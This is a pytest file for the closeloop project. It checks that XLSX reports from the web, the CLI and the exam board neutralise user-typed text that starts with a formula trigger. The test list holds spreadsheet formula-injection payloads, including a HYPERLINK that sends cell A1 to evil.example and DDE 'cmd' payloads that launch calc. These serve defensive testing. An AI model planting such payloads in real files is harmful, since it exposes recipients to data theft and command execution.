"""Issue 10, item 1: text people typed is never a formula in an XLSX the project writes.

A reporter's title `=HYPERLINK(...)` used to become a live formula in the weekly report's
XLSX (web download and CLI) and a grid name in the exam board's. Every writer goes through
`closeloop.xlsxsafe` (the reports' `Sheet`); these tests read the files back with openpyxl and
check that no cell is a formula and that the text is kept behind a leading quote.
"""

from __future__ import annotations

import io
from dataclasses import replace
from pathlib import Path
from typing import Any
from unittest.mock import patch

import pytest
from openpyxl import load_workbook
from sqlalchemy import update
from typer.testing import CliRunner

from closeloop.app import App, ManualClock
from closeloop.cli import app as cli_app
from closeloop.cli.common import State
from closeloop.exam import service as store
from closeloop.exam.render import render_board
from closeloop.models import grids, metadata
from closeloop.web.app import create_app
from closeloop.xlsxsafe import neutralise, safe_cell
from tests.conftest import CONFIG
from tests.exam_data import APRIL, V
from tests.factories import step
from tests.report_data import REAL_NOW, submit, z

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1, "click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_triggers_get_a_leading_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


def test_harmless_values_pass_unchanged() -> None:
    assert safe_cell("河边垃圾堆 = 3 堆") == "河边垃圾堆 = 3 堆"
    assert safe_cell(-3) == -3 and safe_cell(0.5) == 0.5 and safe_cell(None) is None


def cells(book: Any) -> list[Any]:
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


def assert_inert(content: bytes, typed: list[str]) -> None:
    book = load_workbook(io.BytesIO(content))
    everything = cells(book)
    formulas = [c.coordinate for c in everything if c.data_type == "f"]
    assert formulas == [], f"formula cells: {formulas}"
    values = [c.value for c in everything if isinstance(c.value, str)]
    for text in typed:
        assert "'" + text in values, text
        assert text not in values


@pytest.fixture
def hostile_week(app: App, tmp_path: Path) -> App:
    """Week 14 with tickets whose titles start with formula triggers, fixed and closed in it."""
    metadata.create_all(app.engine)
    raw = dict(app.settings.raw)
    raw["report"] = {**raw.get("report", {}), "out_dir": str(tmp_path / "reports")}
    a = replace(app, settings=replace(app.settings, raw=raw))
    for i, title in enumerate(HOSTILE[:4]):
        ref = submit(a, "JS-A1-V01-G01", "sanitation", z(3, 31, 9 + i), title=title)
        step(a, ref, "fix", "yantou.g1", z(3, 31, 14), now=REAL_NOW, note="已清理")
    return a


def test_weekly_report_xlsx_from_the_web_has_no_formula(hostile_week: App) -> None:
    from fastapi.testclient import TestClient

    from closeloop.web import auth

    token = auth.create_token(hostile_week, "duban.wang", "t", REAL_NOW).token
    with TestClient(create_app(hostile_week, clock=ManualClock(REAL_NOW))) as client:
        r = client.get(
            "/api/reports/weekly",
            params={"week": "2026-W14", "format": "xlsx"},
            headers={"Authorization": f"Bearer {token}"},
        )
    assert r.status_code == 200, r.text
    assert_inert(r.content, HOSTILE[:4])


def test_weekly_report_xlsx_from_the_command_line_has_no_formula(
    hostile_week: App, tmp_path: Path
) -> None:
    target = tmp_path / "w14.xlsx"
    with patch.object(State, "app", lambda _self: hostile_week):
        result = CliRunner().invoke(
            cli_app,
            [
                *("--config", str(CONFIG), "report", "weekly", "--week", "2026-W14"),
                *("--format", "xlsx", "--out", str(target)),
            ],
        )
    assert result.exit_code == 0, result.output
    assert_inert(target.read_bytes(), HOSTILE[:4])


def test_exam_board_xlsx_has_no_formula(app: App) -> None:
    metadata.create_all(app.engine)
    name = '=HYPERLINK("http://evil.example/","西塘村")'
    with app.engine.begin() as conn:
        conn.execute(update(grids).where(grids.c.code == V[4]).values(name=name))
    store.import_exam(app, APRIL, REAL_NOW)
    view = store.publish_board(app, "2026-04", REAL_NOW)
    assert_inert(render_board(view, "xlsx", locale="zh_CN"), [name])
